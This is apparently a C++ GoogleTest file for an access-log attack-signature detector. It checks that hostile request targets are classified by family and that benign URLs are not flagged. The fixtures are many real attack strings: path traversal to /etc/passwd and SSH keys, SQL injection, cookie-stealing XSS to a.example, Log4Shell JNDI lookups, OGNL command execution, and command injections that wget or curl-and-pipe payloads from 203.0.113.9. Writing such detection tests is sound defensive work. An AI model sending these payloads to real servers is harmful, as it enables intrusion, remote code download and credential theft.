#include "detect/attack_signatures.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <set>
#include <string>
#include <thread>
#include <vector>

#include "detect/attack_patterns.h"
#include "detect/attack_text.h"

namespace accesslog {
namespace {

using Family = AttackFamily;
using ::testing::HasSubstr;

const AttackSignatures& BuiltIn() {
  static const auto signatures = AttackSignatures::Create().value();
  return *signatures;
}

AttackMatch Target(std::string_view target, std::string_view method = "GET") {
  const size_t mark = target.find('?');
  return BuiltIn().MatchTarget(
      method, target.substr(0, mark),
      mark == std::string_view::npos ? std::string_view{} : target.substr(mark + 1));
}

AttackMatch UserAgent(std::string_view user_agent) {
  return BuiltIn().MatchHeaders(user_agent, {});
}

std::string WhyTarget(std::string_view target) {
  const size_t mark = target.find('?');
  return BuiltIn().NamesOfTarget(
      "GET", target.substr(0, mark),
      mark == std::string_view::npos ? std::string_view{} : target.substr(mark + 1));
}

struct Case {
  Family family;
  std::string_view target;
};

TEST(AttackSignaturesTest, FamiliesOfTargets) {
  const Case cases[] = {
      {Family::kSensitiveFile, "/.env"},
      {Family::kSensitiveFile, "/api/.env.production"},
      {Family::kSensitiveFile, "/.ENV.bak"},
      {Family::kSensitiveFile, "/.git/config"},
      {Family::kSensitiveFile, "/app/.git/HEAD"},
      {Family::kSensitiveFile, "/.svn/entries"},
      {Family::kSensitiveFile, "/.htpasswd"},
      {Family::kSensitiveFile, "/.DS_Store"},
      {Family::kSensitiveFile, "/.aws/credentials"},
      {Family::kSensitiveFile, "/.ssh/id_rsa"},
      {Family::kSensitiveFile, "/wp-config.php.bak"},
      {Family::kSensitiveFile, "/wp-config.php~"},
      {Family::kSensitiveFile, "/.wp-config.php.swp"},
      {Family::kSensitiveFile, "/backup.zip"},
      {Family::kSensitiveFile, "/backup/site.tar.gz"},
      {Family::kSensitiveFile, "/dump.sql"},
      {Family::kSensitiveFile, "/www.example.org.sql.gz"},
      {Family::kSensitiveFile, "/.bash_history"},
      {Family::kSensitiveFile, "/phpinfo.php"},
      {Family::kSensitiveFile, "/server-status?auto"},
      {Family::kSensitiveFile, "/actuator/env"},
      {Family::kSensitiveFile, "/web.config"},
      {Family::kAdminInterface, "/phpmyadmin/index.php?lang=en"},
      {Family::kAdminInterface, "/phpMyAdmin-5.2.1/"},
      {Family::kAdminInterface, "/manager/html"},
      {Family::kAdminInterface, "/administrator/index.php"},
      {Family::kAdminInterface, "/adminer.php"},
      {Family::kAdminInterface, "/solr/admin/info/system?wt=json"},
      {Family::kAdminInterface, "/+CSCOE+/logon.html"},
      {Family::kAdminInterface, "/cgi-bin/luci/;stok=/locale"},
      {Family::kAdminInterface, "/HNAP1/"},
      {Family::kAdminInterface, "/boaform/admin/formLogin"},
      {Family::kAdminInterface, "/remote/login?lang=en"},
      {Family::kAdminInterface, "/owa/auth/logon.aspx"},
      {Family::kAdminInterface, "/GponForm/diag_Form?images/"},
      {Family::kWebShell, "/c99.php"},
      {Family::kWebShell, "/wp-content/uploads/wso.php?cmd=ls"},
      {Family::kWebShell, "/images/alfa.php"},
      {Family::kWebShell, "/Dive_Shell.php"},
      {Family::kWebShell, "/uploads/shell.jsp"},
      {Family::kWebShell, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
      {Family::kPathTraversal, "/../../../../etc/passwd"},
      {Family::kPathTraversal, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"},
      {Family::kPathTraversal, "/..%5c..%5c..%5cwindows/win.ini"},
      {Family::kPathTraversal, "/static/%252e%252e/%252e%252e/boot.ini"},
      {Family::kPathTraversal, "/view?file=../../../../etc/passwd%00.png"},
      {Family::kPathTraversal, "/view?file=....//....//....//etc/passwd"},
      {Family::kPathTraversal, "/view?file=/etc/passwd"},
      {Family::kPathTraversal, "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir"},
      {Family::kPathTraversal, "/..;/manager/html"},
      {Family::kPathTraversal, "/index.php?page=php://filter/convert.base64-encode/resource=index"},
      {Family::kSqlInjection, "/item?id=1+UNION+SELECT+1,2,3--"},
      {Family::kSqlInjection, "/item?id=-1%27/**/uNiOn/**/AlL/**/sElEcT/**/null,null--+-"},
      {Family::kSqlInjection, "/item?id=1%20/*!50000union*/%20/*!50000select*/%201"},
      {Family::kSqlInjection,
       "/item?id=1%2527%2520union%2520select%2520password%2520from%2520users"},
      {Family::kSqlInjection, "/item?id=(select(0)from(select(sleep(5)))v)"},
      {Family::kSqlInjection, "/item?id=1%27%20or%20%271%27=%271"},
      {Family::kSqlInjection, "/item?id=1+and+1=1"},
      {Family::kSqlInjection, "/item?id=1)+AND+5650=5650+AND+(4521=4521"},
      {Family::kSqlInjection, "/item?id=1%27;WAITFOR%20DELAY%20%270:0:5%27--"},
      {Family::kSqlInjection, "/item?id=extractvalue(1,concat(0x7e,version()))"},
      {Family::kSqlInjection, "/item?id=1;DROP+TABLE+users"},
      {Family::kSqlInjection, "/item?id=1+order+by+10--"},
      {Family::kSqlInjection, "/login?user=admin%27--&p=x"},
      {Family::kSqlInjection, "/item?id=1,null,null,null"},
      {Family::kSqlInjection, "/x?a=information_schema.tables"},
      {Family::kXss, "/search?q=<script>alert(1)</script>"},
      {Family::kXss, "/search?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E"},
      {Family::kXss, "/search?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E"},
      {Family::kXss, "/search?q=%3Csvg/onload=alert(1)%3E"},
      {Family::kXss, "/go?to=javascript:alert(document.cookie)"},
      {Family::kXss, "/search?q=%u003cscript%u003ealert(1)"},
      {Family::kXss, "/search?q=%27;alert(1);//"},
      {Family::kCommandInjection, "/ping?ip=127.0.0.1;id"},
      {Family::kCommandInjection, "/ping?ip=127.0.0.1|id"},
      {Family::kCommandInjection, "/ping?ip=|id"},
      {Family::kCommandInjection, "/ping?ip=$(whoami)"},
      {Family::kCommandInjection, "/ping?ip=`uname%20-a`"},
      {Family::kCommandInjection, "/ping?ip=1;cat%20/etc/passwd"},
      {Family::kCommandInjection, "/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/jaws;sh+jaws"},
      {Family::kCommandInjection,
       "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m"},
      {Family::kCommandInjection,
       "/?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"},
      {Family::kCommandInjection,
       "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"},
      {Family::kCommandInjection,
       "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%7D/"},
      {Family::kCommandInjection, "/?search=%24%7Bscript%3Ajavascript%3Ax%7D"},
      {Family::kCommandInjection, "/setup/setupadministrator.action"},
      {Family::kCommandInjection, "/service/extension/backup/mboximport?account-name=admin"},
      {Family::kCommandInjection, "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh"},
      {Family::kLog4Shell, "/?x=${jndi:ldap://203.0.113.9/a}"},
      {Family::kLog4Shell, "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D"},
      {Family::kLog4Shell,
       "/?x=${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.9/a}"},
      {Family::kLog4Shell, "/?x=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.9/a}"},
      {Family::kLog4Shell, "/?x=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x}"},
      {Family::kLog4Shell, "/?x=${${upper:${upper:${lower:j}}}ndi:rmi://203.0.113.9}"},
      {Family::kSsrf, "/fetch?url=http://169.254.169.254/latest/meta-data/"},
      {Family::kSsrf, "/fetch?url=http%3A%2F%2Fmetadata.google.internal%2F"},
      {Family::kSsrf, "/fetch?url=gopher://127.0.0.1:6379/_INFO"},
      {Family::kSsrf, "/fetch?url=file:///etc/passwd"},
      {Family::kScanner, "/nmaplowercheck1700000000"},
  };
  for (const auto& [family, target] : cases) {
    EXPECT_TRUE(Target(target).Has(family))
        << target << " is no " << AttackFamilyName(family) << " but: " << WhyTarget(target);
  }
}

// What scanners ask for, whatever the family.
TEST(AttackSignaturesTest, AttacksOfTheWorld) {
  const std::string_view targets[] = {
      R"t(/.env.local)t",
      R"t(/.env-prod)t",
      R"t(/.env_backup)t",
      R"t(/laravel/.env)t",
      R"t(/.git/logs/HEAD)t",
      R"t(/.vscode/sftp.json)t",
      R"t(/sftp-config.json)t",
      R"t(/.idea/workspace.xml)t",
      R"t(/.well-known/../.env)t",
      R"t(/backup.sql)t",
      R"t(/db_backup.sql.gz)t",
      R"t(/2024.zip)t",
      R"t(/site.tar.gz)t",
      R"t(/wwwroot.rar)t",
      R"t(/example.com.zip)t",
      R"t(/www.zip)t",
      R"t(/.aws/config)t",
      R"t(/.config/gcloud/credentials.db)t",
      R"t(/config/.env)t",
      R"t(/.docker/config.json)t",
      R"t(/docker-compose.yml)t",
      R"t(/wp-config.php_old)t",
      R"t(/wp-config.old)t",
      R"t(/wp-config-sample.php)t",
      R"t(/config.php.bak)t",
      R"t(/index.php.bak)t",
      R"t(/index.php~)t",
      R"t(/.index.php.swp)t",
      R"t(/server-status)t",
      R"t(/actuator/heapdump)t",
      R"t(/api/actuator/env)t",
      R"t(/_profiler/phpinfo)t",
      R"t(/telescope/requests)t",
      R"t(/debug/default/view?panel=config)t",
      R"t(/.DS_Store)t",
      R"t(/etc/passwd)t",
      R"t(/proc/self/environ)t",
      R"t(/cgi-bin/../../../../etc/passwd)t",
      R"t(/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd)t",
      R"t(/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/etc/passwd)t",
      R"t(/..%252f..%252f..%252fetc/passwd)t",
      R"t(/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd)t",
      R"t(/static/../../../a/../../../../etc/passwd)t",
      R"t(/index.php?page=....//....//etc/passwd)t",
      R"t(/index.php?file=..%5c..%5c..%5cwindows%5cwin.ini)t",
      R"t(/download?f=../../../../../../boot.ini)t",
      R"t(/lang?language=../../../../../../tmp/sess)t",
      R"t(/?file=%2Fetc%2Fpasswd)t",
      R"t(/?x=/etc/passwd%00)t",
      R"t(/?page=expect://id)t",
      R"t(/?page=data://text/plain;base64,PD9waHA=)t",
      R"t(/main.php?id=1%27%20AND%20SLEEP(5)--%20-)t",
      R"t(/main.php?id=1+AND+(SELECT+1+FROM(SELECT+COUNT(*),CONCAT(0x7e,VERSION()))a))t",
      R"t(/main.php?id=1)%20AND%20SLEEP(5)%20AND%20(1=1)t",
      R"t(/main.php?id=1%22%20OR%20%221%22=%221)t",
      R"t(/main.php?id=-1+union+all+select+1,concat(user,0x3a,pass)+from+users)t",
      R"t(/main.php?id=1'+UNION/**_**/SELECT+NULL,NULL#)t",
      R"t(/main.php?id=1||(SELECT+CHR(58)))t",
      R"t(/main.php?id=1;EXEC+xp_cmdshell('dir'))t",
      R"t(/main.php?id=1%20RLIKE%20(SELECT%20(CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200x28%20END)))t",
      R"t(/main.php?id=1'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98),15)||')t",
      R"t(/main.php?user=admin'+or+1=1+--+)t",
      R"t(/main.php?user=admin'%23)t",
      R"t(/main.php?user='+or+''=')t",
      R"t(/main.php?user=x'+OR+'x'='x)t",
      R"t(/main.php?user=1+or+1+like+1)t",
      R"t(/main.php?id=1+group+by+1,2+having+1=1)t",
      R"t(/main.php?q=test%27%29%29%29+union+select+1)t",
      R"t(/?q=<svg/onload=alert`1`>)t",
      R"t(/?q="><script>alert(1)</script>)t",
      R"t(/?q=%22onmouseover=%22alert(1))t",
      R"t(/?q='-alert(1)-')t",
      R"t(/?q=<img src=x onerror=alert(1)>)t",
      R"t(/?q=<iframe src=javascript:alert(1)>)t",
      R"t(/?q=<body onload=alert(1)>)t",
      R"t(/?q=<a href="javascript:alert(1)">x</a>)t",
      R"t(/?q={{constructor.constructor('alert(1)')()}})t",
      R"t(/?q=%3Cscript%20src%3Dhttps%3A%2F%2Fevil.example%2Fx.js%3E)t",
      R"t(/?q=<details open ontoggle=confirm(1)>)t",
      R"t(/?url=javascript:alert(1))t",
      R"t(/?x=;cat+/etc/passwd)t",
      R"t(/?x=|cat%20/etc/passwd)t",
      R"t(/?x=`id`)t",
      R"t(/?x=$(id))t",
      R"t(/?x=a%0a/bin/cat%20/etc/passwd)t",
      R"t(/?x=||ping+-c+5+127.0.0.1||)t",
      R"t(/?x=&&whoami)t",
      R"t(/?x=127.0.0.1%3Bls%20-la)t",
      R"t(/?x=;curl+http://203.0.113.9/x|sh)t",
      R"t(/?x=;wget%20http://203.0.113.9/x.sh)t",
      R"t(/?x=;${IFS}cat${IFS}/etc/passwd)t",
      R"t(/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http://203.0.113.9/a%60))t",
      R"t(/boaform/admin/formPing?target_addr=;wget%20http://203.0.113.9/m)t",
      R"t(/board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/a)t",
      R"t(/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Brm%20x)t",
      R"t(/shell?cd+/tmp;rm+-rf+*)t",
      R"t(/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo)t",
      R"t(/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5("hi"));?>+/tmp/index1.php)t",
      R"t(/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input)t",
      R"t(/cgi-bin/php-cgi?%ADd+allow_url_include%3D1)t",
      R"t(/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x)t",
      R"t(/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/)t",
      R"t(/?x=%25%7B%28%23dm%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29%7D)t",
      R"t(/?redirect:${%23req%3d%23context.get('x')})t",
      R"t(/?name={{7*7}})t",
      R"t(/?name=${7*7})t",
      R"t(/?name={{config.items()}})t",
      R"t(/?name={{''.__class__.__mro__}})t",
      R"t(/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession)t",
      R"t(/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/)t",
      R"t(/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd)t",
      R"t(/autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@foo.com)t",
      R"t(/owa/auth/x.js)t",
      R"t(/_ignition/execute-solution)t",
      R"t(/api/jsonws/invoke)t",
      R"t(/actuator/gateway/routes)t",
      R"t(/functionRouter)t",
      R"t(/solr/admin/info/system)t",
      R"t(/manager/html)t",
      R"t(/wls-wsat/CoordinatorPortType)t",
      R"t(/console/css/%252e%252e%252fconsole.portal)t",
      R"t(/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../)t",
      R"t(/phpmyadmin4.8.5/index.php)t",
      R"t(/mysql/admin/index.php?lang=en)t",
      R"t(/pma/)t",
      R"t(/phpMyAdmin/scripts/setup.php)t",
      R"t(/adminer-4.8.1.php)t",
      R"t(/Autodiscover/autodiscover.json?a@foo.var/owa/?&Email=autodiscover/autodiscover.json?a@foo.var)t",
      R"t(/HNAP1)t",
      R"t(/GponForm/diag_Form?images/)t",
      R"t(/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*)t",
      R"t(/picsdesc.xml)t",
      R"t(/ctrlt/DeviceUpgrade_1)t",
      R"t(/evox/about)t",
      R"t(/hudson)t",
      R"t(/struts2-showcase/index.action)t",
      R"t(/cgi-bin/ViewLog.asp)t",
      R"t(/shell.php)t",
      R"t(/wso.php)t",
      R"t(/alfa.php)t",
      R"t(/wp-content/plugins/x/shell.php)t",
      R"t(/uploads/r57.php)t",
      R"t(/images/c99.php?act=ls)t",
      R"t(/wp-content/uploads/1.php)t",
      R"t(/ALFA_DATA/alfacgiapi/perl.alfa)t",
      R"t(/cmd.jsp?cmd=id)t",
      R"t(/?x=http://169.254.169.254/latest/meta-data/iam)t",
      R"t(/?url=dict://127.0.0.1:11211/)t",
      R"t(/?u=http://abc123.oast.fun/)t",
      R"t(/?p=${jndi:ldap://a})t",
      R"t(/?p=%24%7Bjndi%3Aldap%3A%2F%2Fa%7D)t",
      R"t(/?p=${j${k8s:k5:-ND}i${sd:k5:-:}ldap://a})t",
      R"t(/?p=${j${::-n}di:dns://a})t",
      R"t(/?p=$%7B${lower:jndi}:ldap://a%7D)t",
      R"t(/${jndi:ldap://a/b})t",
      R"t(/?p=${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//a})t",
      R"t(/?p=${jndi:${lower:l}${lower:d}ap://a)t",
      R"t(/.%00/.env)t",
      R"t(/nacos/v1/auth/users?pageNo=1)t",
      R"t(/wp-content/debug.log)t",
      R"t(/.ftpconfig)t",
      R"t(/.s3cfg)t",
      R"t(/.npmrc)t",
      R"t(/id_rsa)t",
      R"t(/server.key)t",
      R"t(/storage/logs/laravel.log)t",
      R"t(/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php)t",
      R"t(/wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-config.php)t",
      R"t(/?-d+allow_url_include%3don)t",
  };
  for (const std::string_view target : targets) EXPECT_TRUE(Target(target).Any()) << target;
}

// What sites, browsers, crawlers and applications send and nobody means ill by.
TEST(AttackSignaturesTest, HonestTargets) {
  const std::string_view targets[] = {
      "/",
      "/index.html",
      "/favicon.ico",
      "/robots.txt",
      "/apple-touch-icon-precomposed.png",
      "/.well-known/acme-challenge/abcdefgh",
      "/.well-known/security.txt",
      "/wp-admin/admin-ajax.php?action=heartbeat",
      "/wp-login.php?redirect_to=https%3A%2F%2Fexample.org%2Fwp-admin%2F&reauth=1",
      "/wp-json/wp/v2/posts?per_page=10&_embed",
      "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
      "/wp-content/uploads/2024/01/backup-of-my-site-how-to.pdf",
      "/xmlrpc.php?for=jetpack&token=abc&timestamp=1700000000&nonce=xyz",
      "/wp-login.php?action=lostpassword",
      "/wp-login.php?action=register",
      "/data/migrations/1548957970627_remove-db-version.sql",
      "/search?q=union+of+select+committees",
      "/search?q=european+union+select+committee+report",
      "/search?q=select+a+table+from+ikea",
      "/search?q=drop+table+lamp",
      "/search?q=O%27Brien+and+sons",
      "/search?q=rock+%27n%27+roll",
      "/search?q=how+to+use+sleep+in+python",
      "/search?q=time.sleep(5)",
      "/search?q=order+by+phone",
      "/search?q=black+and+white+or+grey",
      "/search?q=1+or+2+bedrooms",
      "/search?q=what+is+an+.env+file",
      "/search?q=curl+vs+wget",
      "/search?q=C%2B%2B",
      "/search?q=alert+sound",
      "/search?q=%E4%B8%AD%E6%96%87%EF%BC%88%E6%B5%8B%E8%AF%95%EF%BC%89",
      "/blog/union-select-explained",
      "/blog/how-to-protect-your-.env-file.html",
      "/blog/etc-passwd-explained",
      "/blog/geekery/shell-shortcut-hacks.html",
      "/blog/php-shell-scripting.html",
      "/?utm_source=feedburner&utm_medium=feed&utm_campaign=Feed%3A+a%2Fmain+%28a.com+-+J%29",
      "/?_escaped_fragment_=%2Fproducts%2F12",
      "/?fbclid=IwAR0abc-_def&gclid=Cj0KCQ",
      "/api?filter=%7B%22a%22%3A%5B1%2C2%5D%2C%22b%22%3Anull%2C%22c%22%3A%22x%22%7D",
      "/api?f.req=%5B%5B%22x%22%2Cnull%2Cnull%5D%5D",
      "/api?jql=project%3D%27ABC%27+and+status%3D%27Open%27+order+by+created",
      "/odata/"
      "Products?$filter=Price+gt+5+and+Name+eq+%27Milk%27&$select=Name&$expand=Items($select=Id)",
      "/api/items?fields=name,id&sort=-id",
      "/api/items?fields=name|id",
      "/api/items?sort=name;id",
      "/api/items?id=5&cat=3&type=all&echo=1&ls=2",
      "/redirect?url=https%3A%2F%2Fwww.example.org%2Fpath%3Fa%3Db%26c%3Dd",
      "/login?return_to=/a/../b",
      "/oauth?redirect_uri=http://localhost:3000/callback",
      "/a/../b.css",
      "/remote.php/dav/files/ann/Documents/report.docx",
      "/index.php/apps/files/?dir=/&fileid=12",
      "/apps/files_sharing/publicpreview/qdrX?file=%2FILENAME.mp3&x=500&y=500",
      "/ocs/v2.php/apps/text/workspace?path=%2F18.03.2024",
      "/apps/richdocumentscode/proxy.php?req=/browser/abc123def/images/example.svg",
      "/Items/5203a7e70b667d2cfaee2cd2eb3de082/Images/Primary?MaxHeight=330&Tags=null",
      "/avatar/room/660d1602e05705c8ca35c16c",
      "/cover/5/md?c=1746230055",
      "/api/v1/request/440",
      "/filter/27|13%20%D9%85,27|%DA%A9,p53",
      "/downloads/app-1.2.zip",
      "/releases/v1.0/source.tar.gz",
      "/files/xboxproxy/proxy-2.1.tar.gz",
      "/js/config.js",
      "/assets/config.json",
      "/browserconfig.xml",
      "/javascript:void(0)",
      "/page?callback=jQuery1124_1700000000&_=1700000001",
      "/map?bbox=1.5,2.5,3.5,4.5&layers=a;b;c",
      "/socket.io/?EIO=4&transport=polling&t=abc",
      "/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D",
      "/shop/c-12_34/product.html;jsessionid=ABCDEF0123456789",
      "/environment/report",
      "/.environmental",
      "/gitlab/project",
      "/admin/",
      "/admin/users/12/edit",
      "/cgi-bin/awstats.pl?config=example.org&output=main",
      "/scripts/%22file://$file/%22",
      "/scripts/%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D%5C%22",
      "/announce?info_hash=%00%12%ab%cd&peer_id=-TR3000-",
      "/wiki/Special:Search?search=%22cross+site+scripting%22",
      "/article?id=12&title=Q%26A+%2D%2D+part+2",
      "/style.css?v=1.0--2",
      "/products?price=10--20",
      "/tv/shows/the-shield-1998",
      "/news/2024/uncle-sam-and-the-nuclei",
      "*",
  };
  for (const std::string_view target : targets) {
    EXPECT_FALSE(Target(target).Any()) << target << ": " << WhyTarget(target);
  }
}

// Exploits: one request tells.
TEST(AttackSignaturesTest, OneRequestIsEnough) {
  const std::string_view targets[] = {
      R"t(/GponForm/diag_Form?images/)t",
      R"t(/wls-wsat/CoordinatorPortType)t",
      R"t(/api/index.php/v1/config/application?public=true)t",
      R"t(/api/index.php/v1/config/application?x=1&public%3dtrue)t",
      R"t(/autodiscover/autodiscover.json?@foo.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@foo.example)t",
      R"t(/Autodiscover/Autodiscover.json?a@foo.example/owa/)t",
      R"t(/autodiscover/autodiscover.json%3fa@foo.example/owa/)t",
      R"t(/cgi-bin/videoconfiguration.cgi)t",
      R"t(/crx/packmgr/service.jsp)t",
      R"t(/boafrm/formSysCmd)t",
      R"t(/ctrlt/DeviceUpgrade_1)t",
      R"t(/p?id=1+UNION+SELECT+1,concat(user(),0x3a,database()),3)t",
      R"t(/p?id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x7171,version())--)t",
      R"t(/p?id=1+union+all+select+null,null,null,null--)t",
      R"t(/p?id=1'+union+select+1,table_name+from+information_schema.tables--)t",
      R"t(/modules.php?name=Search&categ=%20and%201=2%20UNION%20SELECT%200,0,aid,pwd,0,0%20from%20authors/*)t",
      R"t(/p?id=-1+union+select+1,2,3,4--)t",
      R"t(/p?id=0'XOR(if(now()=sysdate(),sleep(19.406),0))XOR'Z)t",
      R"t(/?q=0%22XOR(if(now()=sysdate(),sleep(15),0))XOR%22Z)t",
      R"t(/p?id=1';select+pg_sleep(5);--)t",
      R"t(/p?id=1+AND+SLEEP(5))t",
      R"t(/p?id=1'+AND+(SELECT+1+FROM+(SELECT(SLEEP(5)))a)--)t",
      R"t(/p?id=1;WAITFOR+DELAY+'0:0:5'--)t",
      R"t(/p?id=1;declare+@c+cursor;set+@c=cursor+for+select+1)t",
      R"t(/p?id=1;DECLARE%20@S%20VARCHAR(4000);SET%20@S=CAST(0x44%20AS%20VARCHAR(4000));EXEC(@S);--)t",
      R"t(/p?op=/etc/passwd%00)t",
      R"t(/p?op=../../../etc/passwd%00.jpg)t",
      R"t(/CFIDE/administrator/enter.cfm?locale=../../../lib/password.properties%00en)t",
      R"t(/CFIDE/adminapi/administrator.cfc?x=../../)t",
      R"t(/get?path_comp=.ssh/id_rsa)t",
      R"t(/get?path_comp=/home/ann/.ssh/id_ed25519)t",
      R"t(/vpn/../vpns/cfg/smb.conf)t",
      R"t(/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession)t",
      R"t(/console/images/%252e%252e%252fconsole.portal)t",
      R"t(/console/images/%252E%252E%252Fwp.conf)t",
      R"t(/@fs/etc/passwd)t",
      R"t(/@fs/etc/passwd?raw??)t",
      R"t(/etc/passwd%3f)t",
      R"t(/html/etc/shadow%3F)t",
      R"t(/x?q=<script>document.location='http://a.example/?c='+document.cookie</script>)t",
      R"t(/x?q=%3Csvg%20onload%3Dfetch('//a.example/'%2Bdocument.cookie)%3E)t",
      R"t(/x?q=%3Cimg%20src=x%20onerror=this.src='//a.example/?'%2Bdocument.cookie%3E)t",
      R"t(/x%0d%0aSet-Cookie:%20a=b)t",
      R"t(/x/%0d%0aSet-Cookie)t",
      R"t(/x?u=a%0d%0aSet-Cookie:%20a=b)t",
      R"t(/x?u=a%0aset-cookie%3a%20a=b)t",
      R"t(/x%0D%0ALocation:%20//a.example)t",
      R"t(/x?n=http://a.example/pizza.htm?)t",
      R"t(/x?what=http://a.example/r57.txt?)t",
      R"t(/x?what=http%3A%2F%2Fa.example%2Fid.gif%3F%3F&b=1)t",
      R"t(/x?mosConfig_absolute_path=http://a.example/x)t",
      R"t(/ping?ip=127.0.0.1%0aid)t",
      R"t(/ping?ip=127.0.0.1%0Acat%20/etc/hosts)t",
      R"t(/ping?ip=%0d%0awhoami&x=1)t",
      R"t(/ping?ip=127.0.0.1;id)t",
  };
  for (const std::string_view target : targets) {
    EXPECT_TRUE(Target(target).exploit) << target << ": " << WhyTarget(target);
  }
}

// What the exploits are like but for the one thing that makes them such.
TEST(AttackSignaturesTest, NotEnoughForAnExploit) {
  const std::string_view targets[] = {
      R"t(/search?q=how+does+union+select+null,null,null+work)t",
      R"t(/search?q=1+union+select+1,2,3+from+users)t",
      R"t(/api/v2/query?sql=SELECT+a,b+FROM+t+UNION+SELECT+c,d,e+FROM+u)t",
      R"t(/search?q=windows+10+and+time.sleep(5))t",
      R"t(/search?q="python"+and+sleep(5))t",
      R"t(/search?q=pg_sleep(5))t",
      R"t(/search?q=declare+@c+cursor;+open+@c)t",
      R"t(/search?q=waitfor+delay+'0:0:5')t",
      R"t(/search?q=document.cookie+location.href)t",
      R"t(/search?q=Set-Cookie:+secure)t",
      R"t(/note?body=Hello%0D%0ALocation:%20Berlin%0D%0AContent-Type:%20talk)t",
      R"t(/note?body=my%0D%0Aid%20is%205)t",
      R"t(/note?body=see%20you%0Als%20and%20cat)t",
      R"t(/login?return=http://www.example.org/page.php?)t",
      R"t(/login?return=http%3A%2F%2Fwww.example.org%2Fpage%3F)t",
      R"t(/go?url=https://www.example.org/notes.txt)t",
      R"t(/img?src=https://www.example.org/a.png?w=20)t",
      R"t(/_next/image?url=https%3A%2F%2Fcdn.example.org%2Fa.png%3F&w=64)t",
      R"t(/collect?page=http%3A%2F%2Fwww.example.org%2Findex.php%3F)t",
      R"t(/wiki/What_is_/etc/passwd%3F)t",
      R"t(/view?page=https://www.example.org/?)t",
      R"t(/?page=http://www.example.org/index.html)t",
      R"t(/autodiscover/autodiscover.json/v1.0/ann%40example.org?Protocol=ActiveSync)t",
      R"t(/autodiscover/autodiscover.json?Email=ann%40example.org&Protocol=AutodiscoverV1)t",
      R"t(/api/index.php/v1/config/application)t",
      R"t(/keys?path=/home/ann/.ssh/id_rsa.pub)t",
      R"t(/list?ids=1;2;3;id)t",
      R"t(/list?cols=name|id|5|id)t",
      R"t(/blog/etc/passwd)t",
      R"t(/docs/../index.html)t",
      R"t(/file/100%2525.txt)t",
      R"t(/cars/alfa-romeo.php)t",
      R"t(/cars/alfabeta.php)t",
      R"t(/eggshell.php)t",
      R"t(/nutshell.php)t",
      R"t(/c99-standard.php)t",
      R"t(/wsop-results.php)t",
      R"t(/powershell.html)t",
  };
  for (const std::string_view target : targets) {
    const AttackMatch match = Target(target);
    EXPECT_FALSE(match.exploit || match.leaks) << target << ": " << WhyTarget(target);
  }
}

// They count where the site has no WordPress, and accuse nobody where it has one.
TEST(AttackSignaturesTest, FilesOfWordPressAreInterfaces) {
  for (const std::string_view target :
       {"/wp-login.php", "/wordpress/wp-login.php", "/xmlrpc.php", "//blog/xmlrpc.php?rsd",
        "/wp-admin/setup-config.php?step=1", "/blog/wp-admin/install.php",
        "//site/wp-includes/wlwmanifest.xml", "/wp-content/plugins/contact-form-7/readme.txt",
        "/wp-content/themes/x/readme.txt"}) {
    EXPECT_EQ(Target(target),
              (AttackMatch{AttackFamilyBit(Family::kAdminInterface), false, false, false}))
        << target << ": " << WhyTarget(target);
  }
}

// PHP runs what ends in ".php"; a copy is shown.
